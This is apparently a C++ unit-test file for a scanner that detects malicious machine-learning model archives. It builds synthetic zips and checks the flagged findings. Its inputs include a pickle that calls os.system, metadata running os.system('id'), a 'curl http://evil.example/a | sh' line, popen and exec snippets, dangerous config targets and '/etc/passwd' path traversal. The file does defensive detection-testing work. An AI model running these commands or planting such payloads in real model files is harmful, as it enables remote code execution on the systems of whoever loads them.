#include <gtest/gtest.h>
#include <sys/mman.h>
#include <zlib.h>

#include <chrono>
#include <cstring>

#include "scan/archive/member.h"
#include "scan/scan.h"

namespace scan {
namespace {

using namespace std::string_literals;
using namespace std::string_view_literals;
using evidence::FileVerdict;

const std::string kEvil = "cos\nsystem\n(S'echo inert'\ntR."s;
const std::string kFine = "\x80\x02}q\x00X\x01\x00\x00\x00"s + "aq\x01K\x01s."s;

std::string le(std::uint64_t value, int width) {
  std::string out;
  for (int i = 0; i < width; ++i) {
    out.push_back(static_cast<char>(value >> (8 * i)));
  }
  return out;
}

std::string local_header(std::string_view name, std::uint32_t crc, std::uint64_t size, std::string_view extra = {}) {
  return "PK\x03\x04" + le(20, 2) + le(0, 8) + le(crc, 4) + le(size, 4) + le(size, 4) + le(name.size(), 2) +
         le(extra.size(), 2) + std::string(name) + std::string(extra);
}

std::string central_header(std::string_view name, std::uint32_t crc, std::uint64_t size, std::uint64_t offset,
                           std::string_view extra = {}) {
  return "PK\x01\x02" + le(20, 2) + le(20, 2) + le(0, 8) + le(crc, 4) + le(size, 4) + le(size, 4) + le(name.size(), 2) +
         le(extra.size(), 2) + le(0, 2) + le(0, 4) + le(0, 4) + le(offset, 4) + std::string(name) + std::string(extra);
}

std::string zip(const std::vector<std::pair<std::string, std::string>>& members) {
  std::string out;
  std::string directory;
  for (const auto& [name, data] : members) {
    const auto crc = static_cast<std::uint32_t>(
        crc32(0, reinterpret_cast<const Bytef*>(data.data()), static_cast<uInt>(data.size())));
    directory += central_header(name, crc, data.size(), out.size());
    out += local_header(name, crc, data.size()) + data;
  }
  const std::size_t at = out.size();
  return out + directory + "PK\x05\x06" + le(0, 4) + le(members.size(), 2) + le(members.size(), 2) +
         le(directory.size(), 4) + le(at, 4) + le(0, 2);
}

evidence::FileScan look(base::Bytes content, std::string_view path) {
  evidence::Asset asset;
  asset.kind = evidence::AssetKind::model;
  asset.path = path;
  const auto result = judge(asset, content);
  return result ? *result : evidence::FileScan{};
}
evidence::FileScan look(std::string_view content, std::string_view path) {
  return look(base::as_bytes(content), path);
}
bool found(const evidence::FileScan& scan, std::string_view rule) {
  return std::any_of(scan.findings.begin(), scan.findings.end(), [&](const auto& f) { return f.rule == rule; });
}

TEST(JudgeArchive, SaysNothingOfAGoodModel) {
  const auto scan =
      look(zip({{"m/data.pkl", kFine}, {"m/version", "3\n"}, {"m/data/0", std::string(64, '\0')}}), "m.pt");
  EXPECT_EQ(scan.verdict, FileVerdict::clean);
  EXPECT_TRUE(scan.findings.empty());
  EXPECT_EQ(scan.formats, std::vector<std::string>{"torch-zip"});
}

TEST(JudgeArchive, StopsAtStoredMembersThatShareBytes) {
  const std::string pickle = "\x80\x02X"s + le(2000, 4) + std::string(2000, 'a') + ".";
  std::string content = local_header("m/data.pkl", 0, pickle.size()) + pickle;
  const std::size_t at = content.size();
  for (int i = 0; i < 100; ++i) {
    content += central_header(std::to_string(i) + ".pkl", 0, pickle.size(), 0);
  }
  const std::size_t end = content.size();
  content += "PK\x05\x06" + le(0, 4) + le(100, 2) + le(100, 2) + le(end - at, 4) + le(at, 4) + le(0, 2);
  const auto scan = look(content, "m.pt");
  EXPECT_EQ(scan.verdict, FileVerdict::malicious);
  EXPECT_NE(scan.coverage, evidence::Coverage::complete);
}

TEST(JudgeArchive, ReadsMembersWhateverTheirNames) {
  for (const char* name : {"m/notes.txt", "m/x", "m/.data/serialization_id", "m/data/0", "m/config.bin"}) {
    EXPECT_TRUE(found(look(zip({{"m/data.pkl", kFine}, {name, kEvil}}), "m.pt"), "pickle-dangerous-call")) << name;
  }
}

TEST(JudgeArchive, ReadsMembersWhoseBeginningDoesNotTellTheirFormat) {
  const auto told = [](const std::string& name, const std::string& content, std::string_view rule) {
    return found(look(zip({{name, content}}), "models.zip"), rule);
  };
  const std::string padding(5000, 'x');
  const std::string header = R"j({"__metadata__":{"a":"__import__('os').system('id')","pad":")j" + padding + R"j("}})j";
  EXPECT_TRUE(told("models/m.safetensors", le(header.size(), 8) + header, "metadata-code"));
  // A SavedModel whose first node is longer than what is looked at: schema, graph, nodes of a name and an operator.
  const auto field = [](int number, const std::string& bytes) {
    std::string length;
    for (std::size_t left = bytes.size(); left > 0 || length.empty(); left >>= 7) {
      length.push_back(static_cast<char>((left & 0x7F) | (left > 0x7F ? 0x80 : 0)));
    }
    return std::string(1, static_cast<char>(number << 3 | 2)) + length + bytes;
  };
  const std::string token = field(5, field(1, "token") + field(2, field(2, "x")));
  const std::string nodes =
      field(1, field(1, "w" + padding) + field(2, "Const")) + field(1, field(1, "p") + field(2, "PyFunc") + token);
  const std::string graph = field(1, field(5, "2.1")) + field(2, nodes + field(4, "\x08\x01"s));
  EXPECT_TRUE(told("export/saved_model.pb", "\x08\x01"s + field(2, graph), "graph-code"));
  EXPECT_TRUE(told("tool.py", "#!/usr/bin/env python\nimport os\nos.system('curl http://evil.example/a | sh')\n",
                   "attack-command"));
}

TEST(JudgeArchive, FindsAPickleBehindOtherBytesInASmallMember) {
  const std::string hidden = "licence\0\0"s + kEvil;
  EXPECT_TRUE(found(look(zip({{"m/data.pkl", kFine}, {"m/licence", hidden}}), "m.pt"), "pickle-dangerous-call"));
}

TEST(JudgeArchive, KnowsProgramsInPlaceOfModels) {
  const std::string elf =
      "\x7F"
      "ELF\x02\x01\x01"s +
      std::string(200, '\0');
  EXPECT_TRUE(found(look(elf, "model.pt"), "model-is-executable"));
  EXPECT_TRUE(found(look(zip({{"m/data.pkl", kFine}, {"m/data/0", elf}}), "m.pt"), "model-is-executable"));
  EXPECT_TRUE(found(look(zip({{"weights.safetensors", elf}}), "folder.zip"), "model-is-executable"));
  EXPECT_FALSE(found(look(zip({{"pkg/_native.so", elf}}), "pkg.whl"), "model-is-executable"));
}

TEST(JudgeArchive, TellsLinksThatStayInsideFromThoseThatLeadOut) {
  EXPECT_FALSE(link_leads_out("lib/a.so", "a.so.1"));
  EXPECT_FALSE(link_leads_out("lib/x/a.so", "../../a.so.1"));
  EXPECT_TRUE(link_leads_out("lib/a.so", "../../a.so.1"));
  EXPECT_TRUE(link_leads_out("a", "/etc/passwd"));
  EXPECT_TRUE(link_leads_out("a/b", "c/../../../d"));
  EXPECT_TRUE(leads_out("a/../../b"));
  EXPECT_TRUE(leads_out("C:\\x"));
  EXPECT_FALSE(leads_out("a/..b/c"));
}

TEST(JudgeArchive, AnArchiveAtTheEndOfAnotherFileIsAPolyglotOnlyWhereItEndsTheFile) {
  const std::string png = "\x89PNG\r\n\x1a\n"s + std::string(60, 'x');
  const std::string model = zip({{"m/data.pkl", kFine}});
  EXPECT_TRUE(found(look(png + model, "m.png"), "polyglot"));
  // A pickle that keeps an archive as a value.
  const std::string value = zip({{"a.txt", "a"}});
  const auto scan = look(
      "\x80\x03"
      "C" +
          le(value.size(), 1) + value + "q\x00."s,
      "m.pkl");
  EXPECT_FALSE(found(scan, "polyglot"));
  EXPECT_EQ(scan.verdict, FileVerdict::clean);
}

TEST(JudgeArchive, TorchScriptIsReadForCallsThatReachOut) {
  const auto script = [](const std::string& code) {
    return look(zip({{"m/data.pkl", kFine}, {"m/code/__torch__.py", code}, {"m/constants.pkl", kFine}}), "m.pt");
  };
  EXPECT_EQ(script("def forward(self, x: Tensor) -> Tensor:\n  return torch.relu(x)\n").verdict, FileVerdict::clean);
  EXPECT_EQ(script("import __torch__.torch.nn\nopen_gate : Tensor\n").verdict, FileVerdict::clean);
  for (const char* code : {"_0 = ops.aten.save(x, \"f\")", "_0 = torch.from_file(\"f\", False, 1)", "import os",
                           "eval(\"1\")", "from posix import system", "_0 = ops.os.system(\"id\")"}) {
    EXPECT_TRUE(found(script(code + "\n"s), "torchscript-dangerous-code")) << code;
  }
}

TEST(JudgeArchive, PackagedCodeIsReadForCommands) {
  const auto handler = [](const std::string& code) {
    return look(zip({{"MAR-INF/MANIFEST.json", "{}"}, {"handler.py", code}}), "m.mar");
  };
  EXPECT_EQ(handler("import os\nmodel.eval()\nos.path.join('a', 'b')  # os.system('x')\ns = 'eval(1)'\n").verdict,
            FileVerdict::clean);
  for (const char* code :
       {"import os\nos.system('id')", "from os import system\nsystem('id')", "import os as o\no.popen('id')",
        "exec(data)", "getattr(os, 'sys' + 'tem')('id')", "import marshal\nmarshal.loads(b)"}) {
    EXPECT_TRUE(found(handler(code), "packaged-code-runs-commands")) << code;
  }
  EXPECT_TRUE(found(handler("import subprocess\nsubprocess.run(['ls'])"), "packaged-code-reaches-out"));
}

TEST(JudgeArchive, TargetsOfConfigurationsAreJudgedByName) {
  const auto config = [](const std::string& text) { return look(zip({{"model_config.yaml", text}}), "m.nemo"); };
  EXPECT_EQ(config("encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n").verdict,
            FileVerdict::clean);
  EXPECT_EQ(config("optim:\n  _target_: torch.optim.AdamW\n").verdict, FileVerdict::clean);
  EXPECT_TRUE(found(config("x:\n  _target_: os.system\n"), "config-dangerous-target"));
  EXPECT_TRUE(found(config("{\"x\": {\"\\x5ftarget_\": \"subprocess.Popen\"}}"), "config-dangerous-target"));
  EXPECT_TRUE(found(config("x:\n  _target_: torch.hub.load\n"), "config-dangerous-target"));
  EXPECT_TRUE(found(config("x:\n  _target_: somewhere.run\n"), "config-unknown-target"));
}

TEST(JudgeArchive, NothingOfTenGibibytesOfStoragesIsRead) {
  constexpr std::uint64_t kStorage = 5ULL << 30;
  constexpr std::uint64_t kAll = 2 * kStorage + (1U << 20);
  void* const memory = mmap(nullptr, kAll, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (memory == MAP_FAILED) {
    GTEST_SKIP() << "no address space";
  }
  char* const begin = static_cast<char*>(memory);
  std::uint64_t at = 0;
  std::string directory;
  const auto put = [&](std::string_view text) {
    std::memcpy(begin + at, text.data(), text.size());
    at += text.size();
  };
  const auto pickle_crc = static_cast<std::uint32_t>(
      crc32(0, reinterpret_cast<const Bytef*>(kFine.data()), static_cast<uInt>(kFine.size())));
  directory += central_header("m/data.pkl", pickle_crc, kFine.size(), 0);
  put(local_header("m/data.pkl", pickle_crc, kFine.size()) + kFine);
  for (const std::string name : {"m/data/0", "m/data/1"}) {
    const std::uint64_t offset = at;
    const std::string sizes = le(kStorage, 8) + le(kStorage, 8);
    put(local_header(name, 7, UINT32_MAX, le(1, 2) + le(16, 2) + sizes));
    at += kStorage;
    // The offset of the second does not fit in 32 bits.
    std::string entry = central_header(name, 7, UINT32_MAX, UINT32_MAX, le(1, 2) + le(24, 2) + sizes + le(offset, 8));
    directory += entry;
  }
  const std::uint64_t directory_at = at;
  put(directory);
  const std::uint64_t record = at;
  put("PK\x06\x06" + le(44, 8) + le(45, 2) + le(45, 2) + le(0, 8) + le(3, 8) + le(3, 8) + le(directory.size(), 8) +
      le(directory_at, 8));
  put("PK\x06\x07" + le(0, 4) + le(record, 8) + le(1, 4));
  put("PK\x05\x06" + le(0, 4) + le(3, 2) + le(3, 2) + le(directory.size(), 4) + le(UINT32_MAX, 4) + le(0, 2));
  const auto started = std::chrono::steady_clock::now();
  const auto scan = look(base::Bytes(static_cast<const std::byte*>(memory), at), "m.pt");
  const auto took = std::chrono::steady_clock::now() - started;
  EXPECT_EQ(scan.verdict, FileVerdict::clean) << (scan.findings.empty() ? "" : scan.findings[0].message);
  EXPECT_LT(std::chrono::duration_cast<std::chrono::milliseconds>(took).count(), 250);
  RecordProperty("microseconds", static_cast<int>(std::chrono::duration_cast<std::chrono::microseconds>(took).count()));
  munmap(memory, kAll);
}

TEST(JudgeArchive, EveryTruncationOfAnEvilModelIsFoundOrIncomplete) {
  const std::string file = zip({{"m/data.pkl", kEvil}, {"m/data/0", std::string(64, '\0')}});
  for (std::size_t kept = 1; kept < file.size(); ++kept) {
    const auto scan = look(std::string_view(file).substr(0, kept), "m.pt");
    EXPECT_NE(scan.verdict, FileVerdict::clean) << kept;
  }
}

}  // namespace
}  // namespace scan
